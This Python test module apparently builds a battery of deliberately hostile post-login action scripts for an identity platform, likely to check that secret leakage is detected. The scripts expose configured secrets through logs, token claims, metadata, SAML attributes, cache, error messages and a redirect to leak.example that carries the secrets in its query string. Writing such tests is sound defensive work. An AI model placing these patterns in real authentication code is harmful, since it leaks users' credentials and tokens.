"""The hostile actions of the battery (post-login): each leaks its secrets through its channels.

``talker``, ``shaper`` and ``keeper`` leak on every event; ``ender`` leaks one way per event,
chosen by the user's email (``deny@...``, ``redirect@...``, ``prompt@...``, ``raise@...``; any
other email lets the login through). ``stasher``, a draft only, caches its secrets; ``keeper``
shows whatever it finds cached, its own entries and the stasher's. ``CHANGED`` is every
action with each leaked text changed, so that the saved test cases fail and show their
differences.
"""

from __future__ import annotations

import inspect

from .cases import ACTIONS, FORMS, encoded, secret_name

TRIGGER = "post-login"
ENDINGS = ("deny", "redirect", "prompt", "raise")
MODES = ("allow", *ENDINGS)

_PRELUDE = f'''
import base64
import json
import logging

FORMS = {FORMS!r}
SUFFIX = ""


{inspect.getsource(secret_name)}

{inspect.getsource(encoded)}

def each(event, channel):
    """form -> the channel's secret for that form, encoded in that form."""
    return {{form: encoded(form, event.secrets[secret_name(channel, form)]) + SUFFIX for form in FORMS}}
'''

_BODIES = {
    "talker": """
async def on_execute_post_login(event, api):
    for form, text in each(event, "print").items():
        print(f"print/{form}: {text}")
    for form, text in each(event, "logging").items():
        logging.warning("logging/%s: %s", form, text)
    for form, text in each(event, "logging-dict").items():
        logging.warning("logging-dict/%s: %s", form, {"value": text})
""",
    "shaper": """
async def on_execute_post_login(event, api):
    for form, text in each(event, "id-claim").items():
        api.id_token.set_custom_claim(f"https://leak.example/{form}", text)
    for form, text in each(event, "access-claim").items():
        api.access_token.set_custom_claim(f"https://leak.example/{form}", text)
    for form, text in each(event, "app-metadata").items():
        api.user.set_app_metadata(f"leak_{form}", text)
    for form, text in each(event, "user-metadata").items():
        api.user.set_user_metadata(f"leak_{form}", text)
    for form, text in each(event, "saml").items():
        api.saml_response.set_attribute(f"leak_{form}", text)
""",
    "keeper": """
async def on_execute_post_login(event, api):
    for form, text in each(event, "cache").items():
        api.cache.set(f"cache_{form}", text)
    for form, text in each(event, "saved-case").items():
        api.id_token.set_custom_claim(f"https://leak.example/case/{form}", text)
    for form, text in each(event, "rotation").items():
        earlier = api.cache.get(f"rotation_{form}")
        if earlier is None:
            api.cache.set(f"rotation_{form}", text)
        else:  # a value cached before the secret was rotated
            print(f"rotation/{form} cached: {earlier['value']}")
            api.id_token.set_custom_claim(f"https://leak.example/rotation-cached/{form}", earlier["value"])
        print(f"rotation/{form}: {text}")
        api.id_token.set_custom_claim(f"https://leak.example/rotation/{form}", text)
    for form in FORMS:
        stashed = api.cache.get(f"stash_{form}")
        if stashed is not None:
            print(f"stash/{form}: {stashed['value']}")
            api.access_token.set_custom_claim(f"https://leak.example/stash/{form}", stashed["value"])
""",
    "ender": """
async def on_execute_post_login(event, api):
    mode = event.user.email.split("@")[0]
    if mode == "deny":
        api.access.deny(" | ".join(f"{form}={text}" for form, text in each(event, "deny").items()))
    elif mode == "redirect":
        api.redirect.send_user_to("https://leak.example/landing", query=each(event, "redirect"))
    elif mode == "prompt":
        api.prompt.render("leak-prompt", fields={f"leak_{form}": text for form, text in each(event, "prompt").items()})
    elif mode == "raise":
        named = type(event.secrets.EXCEPTION_CLASS_RAW, (Exception,), {})
        raise named(" | ".join(f"{form}={text}" for form, text in each(event, "exception").items()))


async def on_continue_post_login(event, api):
    print("continued after", event.user.email)
""",
    "stasher": """
async def on_execute_post_login(event, api):
    for form, text in each(event, "draft-rotation").items():
        if api.cache.get(f"stash_{form}") is None:
            api.cache.set(f"stash_{form}", text)
""",
}

CODE = {name: _PRELUDE + _BODIES[name] for name in ACTIONS}
CHANGED = {name: code.replace('SUFFIX = ""', 'SUFFIX = "!"') for name, code in CODE.items()}
